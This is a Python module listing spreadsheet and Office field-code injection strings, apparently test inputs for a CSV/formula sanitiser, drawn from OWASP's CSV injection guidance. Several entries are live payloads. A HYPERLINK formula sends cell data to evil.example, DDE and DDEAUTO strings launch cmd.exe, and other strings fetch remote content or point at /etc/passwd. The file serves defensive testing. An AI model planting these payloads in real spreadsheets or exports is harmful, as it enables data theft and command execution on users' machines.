"""What a spreadsheet would reckon, a mail program dial or a document fetch.

Source: the kinds are those of OWASP's page on CSV injection, of Excel's and LibreOffice's rules for
what begins a formula, and of Office's field codes (DDE, INCLUDEPICTURE). Written for this project.
"""

from __future__ import annotations

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/")',
    '=IMPORTXML("https://evil.example/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "{=1+1}",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "%0A=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "https://evil.example/",
    "mailto:x@evil.example",
    "internal:'Blad'!A1",
    "external:c:\\x.xlsx",
    "file:///etc/passwd",
    "\\\\evil.example\\x",
    "DDEAUTO c:\\windows\\system32\\cmd.exe",
    "{ INCLUDEPICTURE https://evil.example/x }",
    "<b>&amp;</b>]]>",
    "_x0041_",
    "0123",
    "1e5",
    "2025-02-07",
    "TRUE",
    "#REF!",
    "\N{RIGHT-TO-LEFT OVERRIDE}abc",
)
